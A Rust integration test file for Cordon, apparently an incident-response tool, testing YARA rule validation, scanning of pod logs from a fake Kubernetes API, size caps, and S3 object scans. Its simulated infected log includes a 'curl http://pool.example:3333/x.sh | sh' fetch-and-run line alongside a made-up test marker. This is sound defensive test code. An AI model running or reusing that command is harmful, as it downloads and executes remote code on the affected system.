//! YARA on evidence: rule files with an error are refused at their line (by `cordon validate` and
//! at start), a playbook that collects a pod's logs from the fake Kubernetes API
//! (`tests/fakes/kubernetes.py`, Kubernetes 1.30) and scans them with `yara.scan` records the match
//! as evidence on the incident, with the rule and the log's SHA-256, and an artifact over
//! `yara.max_bytes`, given or downloaded, is refused without being scanned.
//!
//! The test string is made up here (EICAR-like, not EICAR itself, which scanners on the machine
//! would quarantine).

mod support;

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use sha2::Digest;
use support::kube::{self, FakeKube};
use support::*;

const TOKEN: &str = "kube-token-yara-5e21";

/// The made-up test string the rule looks for.
const MARKER: &str = "X5O!CORDON-YARA-TEST-ARTIFACT!$H+H*";

const RULE: &str = r#"rule cordon_test_artifact : test
{
    meta:
        description = "the made-up test string of Cordon's tests"
    strings:
        $marker = "CORDON-YARA-TEST-ARTIFACT"
    condition:
        $marker
}
"#;

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

fn sha256(text: &str) -> String {
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

fn cli(config: &Path, args: &[&str]) -> (i32, String, String) {
    let out = std::process::Command::new(BIN)
        .arg("--config")
        .arg(config)
        .args(args)
        .output()
        .expect("cordon runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test]
async fn a_rule_with_a_syntax_error_is_reported_at_its_line_by_validate_and_at_start() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(rules.join("more")).unwrap();
    std::fs::write(rules.join("good.yar"), RULE).unwrap();
    // A condition that ends in the middle: the parser stops at the `}` on line 7.
    std::fs::write(
        rules.join("more/broken.yara"),
        "rule broken\n{\n    strings:\n        $a = \"x\"\n    condition:\n        $a and\n}\n",
    )
    .unwrap();
    let extra = format!("yara:\n  paths: [{}]\n", rules.display());
    let config = dir.path().join("cordon.yaml");
    std::fs::write(&config, config_text(dir.path(), &extra)).unwrap();

    let (code, _, err) = cli(&config, &["validate"]);
    assert_eq!(code, 1, "{err}");
    let broken = rules.join("more/broken.yara");
    let at = format!("{}:7:1: error:", broken.display());
    assert!(err.contains(&at), "wanted {at} in:\n{err}");
    assert!(
        !err.contains("good.yar"),
        "only the broken file is reported: {err}"
    );

    // The server refuses to start on the same rules, with the same place.
    let parsed = cordon::config::parse(&config_text(dir.path(), &extra), Path::new("t.yaml"))
        .unwrap_or_else(|d| panic!("{d}"));
    let error = match cordon::app::Server::bind(parsed).await {
        Ok(_) => panic!("the server started with a broken rule"),
        Err(e) => e.to_string(),
    };
    assert!(error.contains(&at), "{error}");

    // Fixed, it validates, naming the rule files.
    std::fs::write(&broken, "rule fixed { condition: true }\n").unwrap();
    let (code, out, err) = cli(&config, &["validate"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("good.yar (YARA)"), "{out}");

    // A running server refuses a reload whose rules break, naming the place, and keeps its rules.
    let server = TestServer::start_in(dir, &extra).await;
    std::fs::write(
        &broken,
        "rule again\n{\n    condition:\n        true and\n}\n",
    )
    .unwrap();
    let (status, body) = server
        .post_as(TESTER, "/v1/playbooks/reload", json!({}))
        .await;
    assert_eq!(status, 400, "{body}");
    let at = format!("{}:5:1: error:", broken.display());
    assert!(
        body["errors"][0].as_str().unwrap_or_default().contains(&at),
        "{body}"
    );
    std::fs::write(&broken, "rule again { condition: false }\n").unwrap();
    let (status, body) = server
        .post_as(TESTER, "/v1/playbooks/reload", json!({}))
        .await;
    assert_eq!(status, 200, "{body}");
    server.stop().await;
}

/// The incident of the first alert whose run finished, with the run.
async fn finished_run(server: &TestServer, title: &str, resource: &str) -> (Value, Value) {
    let accepted = server.accept_generic(title, resource).await;
    let alert_id = accepted["alert_id"].as_str().unwrap().to_owned();
    let run_id = server.run_for_alert(&alert_id).await;
    let run = server.wait_run(&run_id, "finished", finished).await;
    let incident = server
        .admin(&format!(
            "/v1/incidents/{}",
            accepted["incident_id"].as_str().unwrap()
        ))
        .await;
    (run["run"].clone(), incident["incident"].clone())
}

trait AcceptGeneric {
    async fn accept_generic(&self, title: &str, resource: &str) -> Value;
}

impl AcceptGeneric for TestServer {
    async fn accept_generic(&self, title: &str, resource: &str) -> Value {
        let body = json!({
            "title": title, "kind": "k8s.miner", "severity": 8,
            "description": format!("{MARKER} {}", "A".repeat(2000)),
            "resource": { "kind": "k8s.pod", "id": resource, "name": "web-1" },
        });
        let (status, answer) = self.post_generic(&serde_json::to_vec(&body).unwrap()).await;
        assert_eq!(status, 202, "{answer}");
        answer["alerts"][0].clone()
    }
}

#[tokio::test]
async fn a_scan_of_collected_pod_logs_records_the_match_as_evidence_with_the_logs_sha256() {
    let fake = FakeKube::start().await;
    fake.accept_tokens(&[TOKEN]).await;
    fake.seed(&[kube::pod(
        "shop",
        "web-1",
        "node-1",
        &["app", "sidecar"],
        None,
    )])
    .await;
    let infected = format!("GET /healthz 200\ncurl http://pool.example:3333/x.sh | sh\n{MARKER}\n");
    let clean = "proxy up\nGET /healthz 200\n";
    fake.log("shop", "web-1", "app", false, &infected).await;
    fake.log("shop", "web-1", "sidecar", false, clean).await;

    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("token"), format!("{TOKEN}\n")).unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("test.yar"), RULE).unwrap();
    let playbooks = dir.path().join("playbooks");
    std::fs::create_dir_all(&playbooks).unwrap();
    write_playbook(
        &playbooks,
        "scan-pod",
        r#"id: scan-pod
name: Collect a pod's logs and scan them
on:
  source: [generic]
steps:
  - id: logs
    uses: kubernetes.collect_pod_logs
    with: { namespace: shop, pod: web-1, previous: false }
  - id: scan_app
    uses: yara.scan
    with:
      content: "${{ steps.logs.output.logs[0].text }}"
      name: "${{ steps.logs.output.evidence[0].location }}"
  - id: scan_sidecar
    uses: yara.scan
    with:
      content: "${{ steps.logs.output.logs[1].text }}"
      name: "${{ steps.logs.output.evidence[1].location }}"
"#,
    );
    let extra = format!(
        "{}playbooks:\n  paths: [{}]\nintegrations:\n  paths: [{}]\n  credentials:\n    kubernetes:\n      default_cluster: prod\n      clusters:\n        prod:\n          server: {}\n          ca_file: {}\n          token_file: {}\nyara:\n  paths: [{}]\n",
        all_sources(),
        playbooks.display(),
        repo("integrations/kubernetes").display(),
        fake.base,
        kube::pem("ca.pem").display(),
        dir.path().join("token").display(),
        rules.display(),
    );
    let server = TestServer::start_in(dir, &extra).await;

    let (run, incident) = finished_run(&server, "miner in web-1", "shop/web-1").await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["steps"]["scan_app"]["output"]["matched"], true);
    assert_eq!(run["steps"]["scan_sidecar"]["output"]["matched"], false);

    let evidence = incident["evidence"].as_array().unwrap();
    let logs: Vec<&Value> = evidence.iter().filter(|e| e["kind"] == "pod-log").collect();
    assert_eq!(logs.len(), 2, "{evidence:?}");
    let matches: Vec<&Value> = evidence
        .iter()
        .filter(|e| e["kind"] == "yara-match")
        .collect();
    assert_eq!(
        matches.len(),
        1,
        "only the infected log matched: {evidence:?}"
    );
    let found = matches[0];
    assert_eq!(found["rules"], json!(["cordon_test_artifact"]));
    assert_eq!(found["sha256"], sha256(&infected));
    assert_eq!(found["sha256"], logs[0]["sha256"], "the same artifact");
    assert_eq!(found["location"], logs[0]["location"]);
    assert_eq!(found["matches"][0]["strings"], json!(["$marker"]));
    assert_eq!(found["matches"][0]["tags"], json!(["test"]));
    assert_eq!(found["step_id"], "scan_app");
    assert_eq!(found["run_id"], run["id"]);
    server.stop().await;
}

#[tokio::test]
async fn an_artifact_over_the_cap_is_refused_given_or_downloaded_and_nothing_is_scanned() {
    let big = support::fake::serve(
        axum::Router::new().fallback(|| async { format!("{MARKER}{}", "B".repeat(4096)) }),
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("test.yar"), RULE).unwrap();
    let playbooks = dir.path().join("playbooks");
    std::fs::create_dir_all(&playbooks).unwrap();
    write_playbook(
        &playbooks,
        "scan-big",
        &format!(
            r#"id: scan-big
name: Scan what is too large
on:
  source: [generic]
steps:
  - id: given
    uses: yara.scan
    with: {{ content: "${{{{ alert.description }}}}" }}
    on_error: continue
  - id: downloaded
    uses: yara.scan
    with: {{ url: "{}/artifact.bin" }}
    on_error: continue
  - id: elsewhere
    uses: yara.scan
    with: {{ url: "{}/artifact.bin" }}
    on_error: continue
  - id: small
    uses: yara.scan
    with: {{ content: "{MARKER}" }}
"#,
            big.base,
            big.base.replace("127.0.0.1", "localhost")
        ),
    );
    let extra = format!(
        "{}playbooks:\n  paths: [{}]\n  http_allow:\n    scan-big: [\"127.0.0.1\"]\nyara:\n  paths: [{}]\n  max_bytes: 1024\n",
        all_sources(),
        playbooks.display(),
        rules.display(),
    );
    let server = TestServer::start_in(dir, &extra).await;
    let (run, incident) = finished_run(&server, "large artifact", "host-1").await;
    let steps = &run["steps"];
    let given = steps["given"]["error"].as_str().unwrap_or_default();
    assert!(
        given.contains("larger than the 1024 bytes") && given.contains("yara.max_bytes"),
        "{}",
        steps["given"]
    );
    let downloaded = steps["downloaded"]["error"].as_str().unwrap_or_default();
    assert!(
        downloaded.contains("larger than the 1024 bytes") && downloaded.contains("yara.max_bytes"),
        "{}",
        steps["downloaded"]
    );
    // A host the playbook may not reach is refused before anything is sent to it.
    let elsewhere = steps["elsewhere"]["error"].as_str().unwrap_or_default();
    assert!(
        elsewhere.contains("host `localhost` is not allowed"),
        "{}",
        steps["elsewhere"]
    );
    assert_eq!(
        big.requests().len(),
        1,
        "only the allowed download reached the server"
    );
    assert_eq!(steps["small"]["output"]["matched"], true);
    let matches: Vec<&Value> = incident["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "yara-match")
        .collect();
    assert_eq!(
        matches.len(),
        1,
        "only the small artifact was scanned: {}",
        incident["evidence"]
    );
    assert_eq!(matches[0]["sha256"], sha256(MARKER));
    server.stop().await;
}

/// An S3 object is read through the AWS credentials `yara.s3_credentials` names (moto as S3, by
/// the entry's `endpoints`, SigV4-signed), scanned, and its match recorded; one over the cap is
/// refused; a missing one fails naming S3's error code.
#[tokio::test]
async fn an_s3_object_is_read_with_the_aws_credentials_and_scanned_within_the_cap() {
    let moto = support::moto::Moto::start().await;
    let sample = format!("#!/bin/sh\n# dropper\n{MARKER}\n");
    for (path, body) in [
        ("/cordon-evidence", String::new()),
        ("/cordon-evidence/samples/dropper.sh", sample.clone()),
        ("/cordon-evidence/samples/big.bin", "C".repeat(4096)),
    ] {
        let (status, text) = moto
            .s3(reqwest::Method::PUT, "us-east-1", path, &body)
            .await;
        assert_eq!(status, 200, "{path}: {text}");
    }
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("test.yar"), RULE).unwrap();
    let playbooks = dir.path().join("playbooks");
    std::fs::create_dir_all(&playbooks).unwrap();
    write_playbook(
        &playbooks,
        "scan-s3",
        r#"id: scan-s3
name: Scan S3 objects
on:
  source: [generic]
steps:
  - id: sample
    uses: yara.scan
    with: { s3: "s3://cordon-evidence/samples/dropper.sh", region: us-east-1 }
  - id: big
    uses: yara.scan
    with: { s3: "s3://cordon-evidence/samples/big.bin" }
    on_error: continue
  - id: missing
    uses: yara.scan
    with: { s3: "s3://cordon-evidence/samples/none.bin" }
    on_error: continue
"#,
    );
    let extra = format!(
        "{}playbooks:\n  paths: [{}]\nintegrations:\n  paths: []\n  credentials:\n    aws:\n      access_key_id: AKIAIOSFODNN7EXAMPLE\n      secret_access_key: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n      endpoints:\n        \"s3.*.amazonaws.com\": \"{}\"\nyara:\n  paths: [{}]\n  max_bytes: 1024\n  s3_credentials: aws\n",
        all_sources(),
        playbooks.display(),
        moto.base,
        rules.display(),
    );
    let server = TestServer::start_in(dir, &extra).await;
    let (run, incident) = finished_run(&server, "dropper in s3", "host-s3").await;
    let steps = &run["steps"];
    assert_eq!(
        steps["sample"]["output"]["matched"], true,
        "{}",
        steps["sample"]
    );
    assert_eq!(steps["sample"]["output"]["sha256"], sha256(&sample));
    let big = steps["big"]["error"].as_str().unwrap_or_default();
    assert!(big.contains("yara.max_bytes"), "{}", steps["big"]);
    let missing = steps["missing"]["error"].as_str().unwrap_or_default();
    assert!(missing.contains("NoSuchKey"), "{}", steps["missing"]);
    let matches: Vec<&Value> = incident["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "yara-match")
        .collect();
    assert_eq!(matches.len(), 1, "{}", incident["evidence"]);
    assert_eq!(
        matches[0]["location"],
        "s3://cordon-evidence/samples/dropper.sh"
    );
    assert_eq!(matches[0]["sha256"], sha256(&sample));
    server.stop().await;
}
